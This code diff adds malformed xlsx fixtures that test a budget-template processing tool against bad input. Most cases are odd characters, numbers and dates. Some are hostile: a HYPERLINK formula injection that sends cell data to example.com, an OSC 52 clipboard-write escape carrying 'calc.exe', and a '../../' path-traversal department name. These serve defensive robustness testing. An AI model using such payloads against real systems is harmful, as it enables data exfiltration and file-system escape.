@@ -25,6 +25,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import os
 import re
 import shutil
 import struct
@@ -731,6 +732,96 @@ def case_spaces(i: Inputs, out: Path) -> Path:
     return rewrite_zip(i.base, out, {SHEET_PROJECTS: projects, SHEET_INDICATORS: indicators})
 
 
+# --- round two: what passed check and still broke merge, the terminal or the inbox ------------------
+
+def case_invisible_chars(i: Inputs, out: Path) -> Path:
+    """Invisible characters pasted into names, as raw characters in the XML: U+200B inside the
+    first project's name (its indicators name it without), U+FEFF and U+FFFF in the second's, and
+    a U+200D in the name its first indicator gives it."""
+    def projects(xml: bytes) -> bytes:
+        xml = set_cell(xml, "A3", inline("A3", "业务\u200b培训项目"))
+        return set_cell(xml, "A4", inline("A4", "\ufeff会员服务\uffff项目"))
+
+    return rewrite_zip(i.base, out, {SHEET_PROJECTS: projects,
+                                     SHEET_INDICATORS: lambda x: set_cell(x, "A9", inline("A9", "会员\u200d服务项目"))})
+
+
+def case_huge_name(i: Inputs, out: Path) -> Path:
+    """A project name of 40,006 characters: more than an Excel cell holds (Excel and openpyxl cut
+    at 32,767; only a hand-made file has it), which no 汇总表 could carry."""
+    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: set_cell(x, "A3", inline("A3", "业务培训项目" + "长" * 40_000))})
+
+
+def case_not_a_number(i: Inputs, out: Path) -> Path:
+    """Number cells holding NaN and 1E+400 (python-calamine reads nan and inf; xlsxwriter refuses
+    to write either, so an annotated copy used to crash the batch)."""
+    def edit(xml: bytes) -> bytes:
+        xml = set_cell(xml, "J3", b'<c r="J3" t="n"><v>NaN</v></c>')
+        return set_cell(xml, "L3", b'<c r="L3" t="n"><v>1E+400</v></c>')
+
+    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})
+
+
+def case_cents_as_text(i: Inputs, out: Path) -> Path:
+    """年度资金申请总额 and 当年财政拨款 typed as the text 100000000000000.01 (其他资金 0): 17 significant
+    digits, which an .xlsx number (a double) cannot hold to the cent."""
+    def edit(xml: bytes) -> bytes:
+        xml = set_cell(xml, "I3", inline("I3", "100000000000000.01"))
+        xml = set_cell(xml, "J3", inline("J3", "100000000000000.01"))
+        return set_cell(xml, "L3", b'<c r="L3" t="n"><v>0</v></c>')
+
+    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})
+
+
+def case_formula_plus(i: Inputs, out: Path) -> Path:
+    """=+HYPERLINK(…) typed as text into 年度总体目标: a formula as soon as someone edits the cell."""
+    text = '=+HYPERLINK("http://example.com/?d="&A3,"点我查看")'
+    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: set_cell(x, "N3", inline("N3", text))})
+
+
+def case_extreme_dates(i: Inputs, out: Path) -> Path:
+    """计划开始日期 typed as the text 0001-01-01, 计划完成日期 the date serial of 9999-12-31."""
+    def edit(xml: bytes) -> bytes:
+        xml = set_cell(xml, "D3", inline("D3", "0001-01-01"))
+        return re.sub(rb'(<c r="E3"[^>]*><v>)\d+(</v>)', lambda m: m[1] + b"2958465" + m[2], xml, count=1)
+
+    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})
+
+
+ESCAPES = ("\x1b[31m", "\x1b]52;c;Y2FsYy5leGU=\x07")      # a colour; an OSC 52 clipboard write
+
+
+def case_escape_sequences(i: Inputs, out: Path) -> Path:
+    """Terminal escape sequences typed into text (stored as Excel stores control characters,
+    _x001B_): a colour in 年度总体目标, an OSC 52 clipboard write in an indicator's 三级指标."""
+    def excel(text: str) -> str:
+        return re.sub(r"[\x00-\x1f]", lambda m: f"_x{ord(m[0]):04X}_", text)
+
+    goal = "全年举办业务培训12次" + ESCAPES[0] + "，培训基层人员600人次，提升业务能力。"
+    return rewrite_zip(i.base, out, {
+        SHEET_PROJECTS: lambda x: set_cell(x, "N3", inline("N3", excel(goal))),
+        SHEET_INDICATORS: lambda x: set_cell(x, "D3", inline("D3", excel("举办培训次数" + ESCAPES[1])))})
+
+
+FORGED_DEPT = "../../逃逸"
+
+
+def case_forged_department(i: Inputs, out: Path) -> Path:
+    """_meta's 主管部门 forged as "../../逃逸" with a fingerprint that matches (the hash is not keyed,
+    so jixiao's own writer makes such a template): it must never become a path."""
+    template = write_template(i.work / "forged", dept=FORGED_DEPT)
+    return fill(template, out)
+
+
+def case_copy(i: Inputs, out: Path) -> Path:
+    shutil.copy(i.base, out)
+    return out
+
+
+LONG_NAME = f"{UNIT_CODE}_{UNIT_NAME * 10}.xlsx"          # 80 CJK characters: 252 bytes of 255
+GBK_NAME = os.fsdecode(f"{UNIT_CODE}_".encode() + f"{UNIT_NAME}.xlsx".encode("gbk"))   # not UTF-8
+
+
 CASES: dict[str, tuple[str, Callable[[Inputs, Path], Path]]] = {
     # name: (file name, builder)
     "empty": ("310001_empty.xlsx", case_empty),
@@ -782,6 +873,17 @@ CASES: dict[str, tuple[str, Callable[[Inputs, Path], Path]]] = {
     "date_number": ("310001_date_number.xlsx", case_date_number),
     "date1904": ("310001_date1904.xlsx", case_date1904),
     "spaces": ("310001_spaces.xlsx", case_spaces),
+    # round two
+    "invisible_chars": ("310001_invisible.xlsx", case_invisible_chars),
+    "huge_name": ("310001_huge_name.xlsx", case_huge_name),
+    "not_a_number": ("310001_not_a_number.xlsx", case_not_a_number),
+    "cents_as_text": ("310001_cents_as_text.xlsx", case_cents_as_text),
+    "formula_plus": ("310001_formula_plus.xlsx", case_formula_plus),
+    "extreme_dates": ("310001_extreme_dates.xlsx", case_extreme_dates),
+    "escape_sequences": ("310001_escapes.xlsx", case_escape_sequences),
+    "forged_department": ("310001_forged_department.xlsx", case_forged_department),
+    "long_file_name": (LONG_NAME, case_copy),
+    "gbk_file_name": (GBK_NAME, case_copy),
 }
 
 
@@ -829,7 +931,7 @@ def main(argv: list[str]) -> int:
         shutil.copy(inputs.base, out / inputs.base.name) if out.is_dir() else None
         for name in CASES:
             path = build(name, inputs, out)
-            print(f"{name:22} {path.stat().st_size:>12,} B  {path.name}")
+            print(f"{name:22} {path.stat().st_size:>12,} B  {os.fsencode(path.name).decode('utf-8', 'backslashreplace')}")
     return 0
 
 
